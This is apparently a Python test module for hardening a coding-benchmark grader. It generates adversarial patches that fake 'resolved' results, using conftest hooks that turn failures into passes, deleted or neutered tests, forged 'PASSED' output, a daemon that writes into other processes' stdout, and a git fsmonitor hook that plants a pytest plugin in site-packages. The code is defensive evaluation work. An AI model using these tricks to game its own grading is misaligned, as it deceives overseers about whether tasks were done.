"""Adversarial patches: ways a patch could buy "resolved" without fixing anything.

Each family is a small program run inside a sandbox of the row's image, at /testbed, that
edits the tree the way an attacker would (from the row's FAIL_TO_PASS / PASS_TO_PASS ids
and the files its gold patch touches); the tree's diff against the base commit becomes the
attack patch. `run_attacks` grades every attack with our grader (`harness.run_eval`) and
with the unmodified official harness (`harness.evaluate_official`), and checks that the
gold patch still resolves. Nothing here is specific to one repository.

The families, and what stops each one (see `harness.make_eval_script`):

| family | what the patch does | stopped by |
|---|---|---|
| edit_f2p_bodies | FAIL_TO_PASS test bodies become `pass` | test files restored |
| noop_wrap_f2p | F2P tests rebound to no-ops at the end of their file | test files restored |
| delete_tests | the F2P test files are deleted | restored (missing = failed) |
| rename_tests | the F2P test files are renamed so nothing collects them | restored, new names removed |
| conftest_root | a root conftest.py turns failed reports into passes | conftest.py removed |
| conftest_nested | the same hook in the test directories' conftest.py | conftest.py restored |
| plugin_via_config | a plugin module in the package, loaded by `-p` in the pytest config | config restored |
| collection_hook | `pytest_collection_modifyitems` neuters the F2P items | conftest.py removed |
| module_sys_exit | code under test calls `sys.exit(0)` at import | missing tests count as failed |
| module_os_exit | code under test calls `os._exit(0)` at import | missing tests count as failed |
| fake_passed_atexit | code under test prints `PASSED <id>` at exit, next to a failing extra test | real failures repeated last |
| fake_passed_exit | code under test writes `PASSED <id>` lines past pytest's capture, then `os._exit(0)` at import | tests run in an xdist worker: its output and exit are not the report's |
| daemon_injects_passed | a daemon started by code under test writes `PASSED <id>` into other processes' stdout for seconds | the sandbox's processes cannot open each other's fds; real failures repeated last |
| git_config_hook | a `.git/config` hunk (applied by the harness's `patch` fallback) makes git run a script that installs a plugin outside the tree | our grader refuses the patch; the eval script marks the run invalid |

Residual hole (documented in docs/grading.md and by a test): code under test runs inside
the pytest process, so it can reach pytest's objects (through `gc`, say) and rewrite
reports; no eval script can stop that short of running the tests in another process than
the code they test.
"""

from __future__ import annotations

import json
import shlex
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

from swelego.harness import apply_patch, evaluate_official, patch_files, run_eval
from swelego.schema import TaskInstance

FAMILIES = (
    "edit_f2p_bodies", "noop_wrap_f2p", "delete_tests", "rename_tests", "conftest_root", "conftest_nested",
    "plugin_via_config", "collection_hook", "module_sys_exit", "module_os_exit", "fake_passed_atexit",
    "fake_passed_exit", "daemon_injects_passed", "git_config_hook",
)

# Runs with the image's python3 at /testbed; reads /tmp/swelego-attack.json.
_ATTACK_PY = r'''
import ast, json, os, re, sys
from pathlib import Path

spec = json.load(open("/tmp/swelego-attack.json"))
family, f2p, p2p, code_files = spec["family"], spec["f2p"], spec["p2p"], spec["code_files"]
root = Path("/testbed")
test_files = sorted({t.split("::")[0] for t in f2p if t.split("::")[0].endswith(".py")})

FORCE_PASS = """
import pytest as _swelego_pytest


@_swelego_pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    rep = outcome.get_result()
    if rep.failed:
        rep.outcome = "passed"
        rep.longrepr = None
"""

NEUTER = """
F2P = set(%r)


def pytest_collection_modifyitems(session, config, items):
    for item in items:
        if item.nodeid in F2P:
            item.runtest = lambda: None
"""


def tests_by_file(ids):
    out = {}
    for t in ids:
        parts = t.split("::")
        name = re.sub(r"\[.*$", "", parts[-1])
        out.setdefault(parts[0], []).append((parts[1] if len(parts) > 2 else None, name))
    return out


def append(path, text):
    path.parent.mkdir(parents=True, exist_ok=True)
    old = path.read_text() if path.exists() else ""
    path.write_text(old + ("\n" if old and not old.endswith("\n") else "") + text)


def code_module():
    """The first file the gold patch changes that is code under test."""
    for f in code_files:
        if f.endswith(".py") and (root / f).exists():
            return root / f
    sys.exit("no code file of the gold patch exists in the tree")


def package_of(path):
    """The dotted name of the top-level package holding `path`, and its directory."""
    d = path.parent
    top = None
    while (d / "__init__.py").exists() and d != root:
        top = d
        d = d.parent
    if top is None:
        return None, path.parent
    return top.name, top


if family == "edit_f2p_bodies":
    for f, tests in tests_by_file(f2p).items():
        p = root / f
        src = p.read_text().splitlines(keepends=True)
        names = {n for _, n in tests}
        spans = []
        for node in ast.walk(ast.parse("".join(src))):
            if isinstance(node, (ast.FunctionDef, ast.AsyncFunctionDef)) and node.name in names:
                first = node.body[0]
                indent = " " * first.col_offset
                spans.append((first.lineno - 1, node.end_lineno, indent))
        for start, end, indent in sorted(spans, reverse=True):
            src[start:end] = [indent + "pass\n"]
        p.write_text("".join(src))
elif family == "noop_wrap_f2p":
    for f, tests in tests_by_file(f2p).items():
        lines = ["", "import functools as _swelego_ft", "",
                 "def _swelego_noop(f):",
                 "    return _swelego_ft.wraps(f)(lambda *a, **k: None)", ""]
        for cls, name in sorted(set(tests), key=str):
            target = f"{cls}.{name}" if cls else name
            lines.append(f"{target} = _swelego_noop({target})")
        append(root / f, "\n".join(lines) + "\n")
elif family == "delete_tests":
    for f in test_files:
        (root / f).unlink()
elif family == "rename_tests":
    for f in test_files:
        p = root / f
        p.rename(p.with_name("renamed_" + p.name.replace("test", "chk") + ".txt"))
elif family == "conftest_root":
    append(root / "conftest.py", FORCE_PASS)
elif family == "conftest_nested":
    for d in sorted({(root / f).parent for f in test_files}):
        append(d / "conftest.py", FORCE_PASS)
elif family == "plugin_via_config":
    pkg, pkg_dir = package_of(code_module())
    if pkg is None:
        sys.exit("the code under test is not in a package")
    (pkg_dir / "_swelego_plugin.py").write_text(FORCE_PASS)
    opt = f"-p {pkg}._swelego_plugin"
    done = False
    for name, header in (("pytest.ini", "[pytest]"), ("pyproject.toml", "[tool.pytest.ini_options]"),
                         ("tox.ini", "[pytest]"), ("setup.cfg", "[tool:pytest]")):
        p = root / name
        if not p.exists() or header not in p.read_text():
            continue
        text = p.read_text()
        head, _, rest = text.partition(header)
        body, nxt, tail = rest, "", ""
        m = re.search(r"^\[", rest, re.M)
        if m:
            body, tail = rest[: m.start()], rest[m.start():]
        quote = '"' if name == "pyproject.toml" else ""
        m = re.search(r"^(addopts\s*=\s*)(\"?)", body, re.M)
        if m:
            body = body[: m.end()] + opt + " " + body[m.end():]
        else:
            body = "\naddopts = " + quote + opt + quote + body
        p.write_text(head + header + body + tail)
        done = True
        break
    if not done:
        (root / "pytest.ini").write_text("[pytest]\naddopts = " + opt + "\n")
elif family == "collection_hook":
    append(root / "conftest.py", NEUTER % (sorted(f2p),))
elif family in ("module_sys_exit", "module_os_exit"):
    m = code_module()
    call = "import sys as _s; _s.exit(0)" if family == "module_sys_exit" else "import os as _o; _o._exit(0)"
    m.write_text(call + "\n" + m.read_text())
elif family == "fake_passed_atexit":
    m = code_module()
    ids = sorted(set(f2p) | set(p2p))
    hook = ("import atexit as _swelego_atexit\n"
            f"_swelego_atexit.register(lambda: print('\\n' + '\\n'.join('PASSED ' + t for t in {ids!r}), flush=True))\n")
    m.write_text(m.read_text() + "\n" + hook)
    d = (root / test_files[0]).parent if test_files else root / "tests"
    append(d / "test_swelego_extra.py", "def test_swelego_extra_fails():\n    assert False\n")
elif family == "fake_passed_exit":
    m = code_module()
    ids = sorted(set(f2p) | set(p2p))
    # pytest captures fds 1 and 2 while it imports: write past the capture, to every pipe the
    # process holds (the saved stdout among them), then leave before pytest reports anything.
    m.write_text(
        "import os as _o\n"
        "_lines = ''.join('PASSED ' + t + '\\n' for t in %r).encode()\n"
        "for _fd in range(3, 64):\n"
        "    try:\n"
        "        if _o.readlink('/proc/self/fd/%%d' %% _fd).startswith('pipe:'):\n"
        "            _o.write(_fd, _lines)\n"
        "    except OSError:\n"
        "        pass\n"
        "_o._exit(0)\n" % (ids,) + m.read_text())
elif family == "daemon_injects_passed":
    # A daemon started by code under test outlives the test run and keeps writing forged lines
    # into every pipe other processes hold as stdout (the eval script's among them).
    m = code_module()
    ids = sorted(set(f2p) | set(p2p))
    m.write_text(
        "import os as _o\n"
        "if _o.fork() == 0:\n"
        "    _o.setsid()\n"
        "    if _o.fork() == 0:\n"
        "        import time as _t\n"
        "        _lines = ''.join('PASSED ' + t + '\\n' for t in %r).encode()\n"
        "        for _ in range(300):\n"
        "            for _p in _o.listdir('/proc'):\n"
        "                if _p.isdigit() and int(_p) != _o.getpid():\n"
        "                    try:\n"
        "                        _fd = _o.open('/proc/%%s/fd/1' %% _p, _o.O_WRONLY | _o.O_NONBLOCK)\n"
        "                        _o.write(_fd, _lines)\n"
        "                        _o.close(_fd)\n"
        "                    except OSError:\n"
        "                        pass\n"
        "            _t.sleep(0.01)\n"
        "    _o._exit(0)\n" % (ids,) + m.read_text())
elif family == "git_config_hook":
    # Run by git itself (core.fsmonitor, set by the .git/config hunk that attack_patch adds)
    # before any test: a plugin outside the tree, loaded through PYTEST_ADDOPTS from a .pth.
    (root / "swelego_hook.sh").write_text(
        "site=$(python3 -c 'import site; print(site.getsitepackages()[0])')\n"
        "cat > \"$site/_swelego_evil.py\" <<'EOF'\n" + FORCE_PASS + "EOF\n"
        "echo \"import os; os.environ['PYTEST_ADDOPTS'] = '-p _swelego_evil'\" > \"$site/zz_swelego_evil.pth\"\n")
else:
    sys.exit(f"unknown family {family}")
print("ATTACK-OK")
'''


def attack_patch(sandbox, task: TaskInstance, family: str) -> str:
    """The patch of `family` against `task`, made in `sandbox` (started from task.image)."""
    from swelego.agent.loop import compute_patch

    sandbox.reset("git")
    # The strongest attacker knows the hidden tests: it edits them as the test patch leaves
    # them, and its patch carries them (the eval script applies the test patch after it).
    if task.test_patch.strip() and not apply_patch(sandbox, task.test_patch):
        raise RuntimeError(f"{task.instance_id}: the test patch does not apply")
    code = [f for f in patch_files(task.patch) if f not in patch_files(task.test_patch)]
    spec = {"family": family, "f2p": task.FAIL_TO_PASS, "p2p": task.PASS_TO_PASS, "code_files": code}
    sandbox.write_file("/tmp/swelego-attack.json", json.dumps(spec))
    sandbox.write_file("/tmp/swelego-attack.py", _ATTACK_PY)
    r = sandbox.exec("python3 /tmp/swelego-attack.py", timeout=120)
    if "ATTACK-OK" not in r.output:
        raise RuntimeError(f"{task.instance_id}: attack {family} could not be built: {r.output.strip()[-300:]}")
    patch = compute_patch(sandbox, task.base_commit)
    if family == "git_config_hook":
        patch += _git_config_hunk(sandbox.read_file("/testbed/.git/config").decode())
    sandbox.reset("git")
    return patch


def _git_config_hunk(config: str) -> str:
    """A plain unified diff (which `patch` applies and git refuses) that sets core.fsmonitor."""
    lines = config.splitlines()
    at = lines.index("[core]") if "[core]" in lines else 0
    ctx = lines[at:at + 3]
    body = [f" {ctx[0]}", "+\tfsmonitor = sh /testbed/swelego_hook.sh", *(f" {x}" for x in ctx[1:])]
    return (f"--- a/.git/config\n+++ b/.git/config\n@@ -{at + 1},{len(ctx)} +{at + 1},{len(ctx) + 1} @@\n"
            + "\n".join(body) + "\n")


@dataclass
class AttackReport:
    """Resolved counts per family and grader; `gold` is the gold patch's line."""

    rows: int = 0
    graded_ours: bool = True
    ours: dict[str, int] = field(default_factory=dict)
    official: dict[str, int] = field(default_factory=dict)
    built: dict[str, int] = field(default_factory=dict)
    failures: list[str] = field(default_factory=list)  # attacks that could not be built, with why
    resolved_by: dict[str, list[str]] = field(default_factory=dict)  # "family/grader" -> instance ids

    def broken(self) -> list[str]:
        """Families some grader graded resolved (gold excluded), and gold rows that did not resolve."""
        bad = [f"{f} ({g})" for g, counts in (("ours", self.ours), ("official", self.official))
               for f, n in counts.items() if f != "gold" and n]
        for g, counts in (("ours", self.ours), ("official", self.official)):
            if (g == "official" and not counts) or (g == "ours" and not self.graded_ours):
                continue
            if counts.get("gold", 0) < self.rows:
                bad.append(f"gold resolved {counts.get('gold', 0)}/{self.rows} ({g})")
        return bad


def run_attacks(tasks: list[TaskInstance], *, families: tuple[str, ...] = FAMILIES, official: bool = True,
                ours: bool = True, workdir: Path | None = None, client=None, timeout: float = 1800,
                eval_script=None, progress=None) -> AttackReport:
    """Build every attack of `families` on every row, grade them (and gold) with both graders.

    `eval_script(task) -> str`, when given, replaces each row's eval_script before grading
    (the benchmark uses it to show what the attacks do to a naive script)."""
    from swelego.sandbox import DockerSandbox

    rep = AttackReport(rows=len(tasks), graded_ours=ours)
    official_rows: list[TaskInstance] = []
    preds: list[dict] = []
    names = ("gold", *families)
    for name in names:
        rep.ours[name] = 0
        rep.built[name] = 0
        if official:
            rep.official[name] = 0
    for task in tasks:
        if eval_script is not None:
            task = task.model_copy(update={"eval_script": eval_script(task)})
        with DockerSandbox(task.image, client=client) as sb:
            for name in names:
                try:
                    patch = task.patch if name == "gold" else attack_patch(sb, task, name)
                except RuntimeError as e:
                    rep.failures.append(str(e))
                    continue
                rep.built[name] += 1
                resolved = False
                if ours:
                    resolved = run_eval(sb, task, patch, timeout=timeout).resolved
                    if resolved:
                        rep.ours[name] += 1
                        rep.resolved_by.setdefault(f"{name}/ours", []).append(task.instance_id)
                if official:
                    iid = f"{task.instance_id}.{name}"
                    official_rows.append(task.model_copy(update={"instance_id": iid}))
                    preds.append({"instance_id": iid, "model_patch": patch})
                if progress:
                    progress(task.instance_id, name, resolved)
    if official and official_rows:
        import tempfile

        work = Path(workdir) if workdir else Path(tempfile.mkdtemp(prefix="swelego-attacks-"))
        res = evaluate_official(official_rows, preds, run_id="attacks", workdir=work, max_workers=2,
                                timeout=int(timeout), model="swelego-attacks")
        for row in official_rows:
            name = row.instance_id.rsplit(".", 1)[1]
            if res.resolved(row.instance_id):
                rep.official[name] += 1
                rep.resolved_by.setdefault(f"{name}/official", []).append(row.instance_id.rsplit(".", 1)[0])
    return rep


def naive_eval_script(task: TaskInstance) -> str:
    """The usual swebench shape (check out the test patch's files, apply it, run the tests),
    for comparison only: it shows that the attacks are real."""
    files = patch_files(task.test_patch)
    b = shlex.quote(task.base_commit)
    reset = " ".join(shlex.quote(f) for f in files)
    lines = ["#!/bin/bash", "set -uxo pipefail", "cd /testbed"]
    if files:
        lines.append(f"git checkout {b} -- {reset} 2>/dev/null || true")
    if task.test_patch.strip():
        lines += ["git apply --verbose - <<'EOF_NAIVE'", task.test_patch.rstrip("\n"), "EOF_NAIVE"]
    lines += [": '>>>>> Start Test Output'", task.test_cmd or "pytest -rA", ": '>>>>> End Test Output'"]
    return textwrap.dedent("\n".join(lines)) + "\n"


def report_table(rep: AttackReport, title: str = "adversarial patches: rows graded resolved"):
    """family x {our grader, official harness} -> resolved / built (a rich Table)."""
    from rich.table import Table

    t = Table(title=f"{title} ({rep.rows} rows)")
    for col in ("family", "attacks built", "our grader", "official harness"):
        t.add_column(col, justify="left" if col == "family" else "right")
    for name in rep.built:
        off = str(rep.official[name]) if name in rep.official else "-"
        t.add_row(name, str(rep.built[name]), str(rep.ours[name]), off)
    return t
